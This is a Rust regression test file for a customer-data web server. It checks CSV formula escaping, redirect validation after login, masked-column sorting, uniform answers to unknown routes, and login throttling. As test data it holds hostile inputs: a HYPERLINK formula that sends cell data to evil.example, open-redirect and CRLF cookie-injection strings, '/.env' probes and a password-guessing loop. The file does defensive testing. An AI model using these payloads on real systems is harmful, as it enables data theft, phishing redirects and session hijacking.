//! Regressions from probing the server as an attacker would: formulas in CSV exports, where
//! `next` may send a browser after sign-in, sorting behind masks, route enumeration without a
//! sign-in, and password guessing.

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use c360_lake::Layer;
use c360_server::{AppState, ServerConfig};

use crate::api::{
    config, enc, env, get, send, ADMIN_TOKEN, ANALYST_TOKEN, MARKETING_TOKEN, PASSWORD,
};
use crate::fixture;

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;

/// Every cell of a CSV body.
fn cells(body: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

#[tokio::test]
async fn csv_exports_never_start_a_cell_with_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let lake = fixture::build(&dir.path().join("lake"), &dir.path().join("project")).await;
    let mut customers = fixture::customers();
    customers[0].first = FORMULA.to_string();
    customers[0].last = "+1-2".to_string();
    customers[1].first = "@SUM(A1:A9)".to_string();
    fixture::write(
        &lake,
        Layer::Gold,
        "customer_360_profile",
        fixture::profile(&customers),
    )
    .await;
    let app = c360_server::app(AppState::new(config(), lake, dir.path().join("project")));
    for path in [
        "/api/segments/export.csv?segment=High-Value+Travelers",
        "/api/campaign/audience.csv?segment=High-Value+Travelers",
    ] {
        let r = get(&app, path, Some(ANALYST_TOKEN)).await;
        assert_eq!(r.status, StatusCode::OK, "{path}: {}", r.body);
        let cells = cells(&r.body);
        assert!(
            cells.contains(&format!("'{FORMULA} +1-2")),
            "{path}: the name is kept, as text"
        );
        assert!(
            cells.iter().any(|c| c.starts_with("'@SUM(A1:A9)")),
            "{path}"
        );
        for cell in &cells {
            let first = cell.chars().next();
            let formula = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                || (first == Some('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "{path}: a cell starts a formula: {cell:?}");
        }
    }
}

fn login(username: &str, password: &str, next: &str) -> Request<Body> {
    Request::post("/login")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!(
            "username={username}&password={}&next={}",
            enc(password),
            enc(next)
        )))
        .unwrap()
}

#[tokio::test]
async fn next_after_sign_in_is_a_local_path_for_get_and_post() {
    let env = env().await;
    let hostile = [
        "/\t/evil.example",
        "/\r\nSet-Cookie: c360_session=x",
        "/\\evil.example",
        "\\\\evil.example",
        "//evil.example",
        "https://evil.example/",
        "/\u{7f}/evil.example",
    ];
    for next in hostile {
        let r = send(&env.app, login("ana", PASSWORD, next)).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{next:?}: {}", r.body);
        assert_eq!(r.headers[header::LOCATION], "/", "{next:?}");
        // The form offers the same: refused (control characters), or `/`.
        let form = get(&env.app, &format!("/login?next={}", enc(next)), None).await;
        match form.status {
            StatusCode::BAD_REQUEST => {}
            // minijinja escapes `/` as `&#x2f;`.
            StatusCode::OK => assert!(
                form.body.contains(r#"name="next" value="&#x2f;""#),
                "{next:?}: {}",
                form.body
            ),
            other => panic!("{next:?}: GET /login answered {other}"),
        }
    }
    let r = send(&env.app, login("ana", PASSWORD, "/segments?state=CA")).await;
    assert_eq!(r.headers[header::LOCATION], "/segments?state=CA");
}

#[tokio::test]
async fn marketing_cannot_sort_by_a_masked_column() {
    let env = env().await;
    for column in ["full_name"] {
        let path = format!("/api/segments?sort={column}&order=asc");
        let r = get(&env.app, &path, Some(MARKETING_TOKEN)).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}: {}", r.body);
        assert!(r.json()["error"].as_str().unwrap().contains("masked"));
        let page = get(
            &env.app,
            &format!("/segments?sort={column}"),
            Some(MARKETING_TOKEN),
        )
        .await;
        assert_eq!(page.status, StatusCode::BAD_REQUEST);
        assert_eq!(
            get(&env.app, &path, Some(ANALYST_TOKEN)).await.status,
            StatusCode::OK
        );
    }
    // The page offers no sort link on the masked column to marketing, and does to analysts.
    let page = get(&env.app, "/segments", Some(MARKETING_TOKEN)).await;
    assert!(!page.body.contains("sort=full_name"));
    let page = get(&env.app, "/segments", Some(ANALYST_TOKEN)).await;
    assert!(page.body.contains("sort=full_name"));
}

async fn anonymous(
    app: &Router,
    method: &str,
    path: &str,
    html: bool,
) -> (StatusCode, String, String) {
    let mut req = Request::builder().method(method).uri(path);
    if html {
        req = req.header(header::ACCEPT, "text/html");
    }
    let r = send(app, req.body(Body::empty()).unwrap()).await;
    let location = r
        .headers
        .get(header::LOCATION)
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (r.status, r.body, location)
}

#[tokio::test]
async fn unknown_routes_answer_like_protected_ones_without_a_sign_in() {
    let env = env().await;
    let (known, known_body, _) = anonymous(&env.app, "GET", "/api/overview", false).await;
    assert_eq!(known, StatusCode::UNAUTHORIZED);
    for (method, path) in [
        ("GET", "/api/no-such-endpoint"),
        ("GET", "/admin"),
        ("GET", "/.env"),
        ("DELETE", "/api/segments"),
        ("POST", "/api/overview"),
        ("GET", "/segments/extra"),
    ] {
        let (status, body, _) = anonymous(&env.app, method, path, false).await;
        assert_eq!((status, &body), (known, &known_body), "{method} {path}");
    }
    // A browser is sent to the sign-in form from an unknown page as from a known one.
    let (status, _, location) = anonymous(&env.app, "GET", "/no-such-page", true).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(location, "/login?next=%2Fno-such-page");
    // Signed in, unknown paths are 404 and unknown methods 405.
    assert_eq!(
        get(&env.app, "/no-such-page", Some(ADMIN_TOKEN))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let req = Request::delete("/api/segments")
        .header(header::AUTHORIZATION, format!("Bearer {ADMIN_TOKEN}"))
        .body(Body::empty())
        .unwrap();
    assert_eq!(
        send(&env.app, req).await.status,
        StatusCode::METHOD_NOT_ALLOWED
    );
}

/// Guesses `user`'s password up to 30 times; the index of the first guess refused with 429,
/// checking then that the right password is refused too while the lock holds.
async fn guess_until_throttled(app: &Router, user: &str) -> usize {
    for i in 0..30 {
        let r = send(app, login(user, &format!("guess {i}"), "/")).await;
        match r.status {
            StatusCode::UNAUTHORIZED => continue,
            StatusCode::TOO_MANY_REQUESTS => {
                let wait: u64 = r.headers[header::RETRY_AFTER]
                    .to_str()
                    .unwrap()
                    .parse()
                    .unwrap();
                assert!((1..=900).contains(&wait), "Retry-After: {wait}");
                assert!(r.body.contains("Too many failed sign-ins"));
                let right = send(app, login(user, PASSWORD, "/")).await;
                assert_eq!(
                    right.status,
                    StatusCode::TOO_MANY_REQUESTS,
                    "the lock holds for the right password"
                );
                assert!(right.headers.get(header::SET_COOKIE).is_none());
                return i;
            }
            other => panic!("guess {i}: {other}"),
        }
    }
    panic!("30 guesses and no throttling");
}

#[tokio::test]
async fn password_guessing_is_throttled_and_the_right_password_waits_too() {
    let dir = tempfile::tempdir().unwrap();
    let lake = c360_lake::Lake::new(dir.path().join("lake"));
    let config = ServerConfig {
        login_free_attempts: 5,
        ..config()
    };
    let app = c360_server::app(AppState::new(config, lake, dir.path()));
    // Five free guesses, a sixth that starts the backoff, then 429 (a slow machine may let one
    // more through when a lock expires between two guesses).
    let first = guess_until_throttled(&app, "ana").await;
    assert!((6..=8).contains(&first), "first throttled guess: {first}");
    // An unknown user name is throttled the same way (the lock does not tell names apart),
    // and another user is not affected.
    let first = guess_until_throttled(&app, "nobody").await;
    assert!((6..=8).contains(&first), "first throttled guess: {first}");
    assert_eq!(
        send(&app, login("admin", PASSWORD, "/")).await.status,
        StatusCode::SEE_OTHER
    );
}
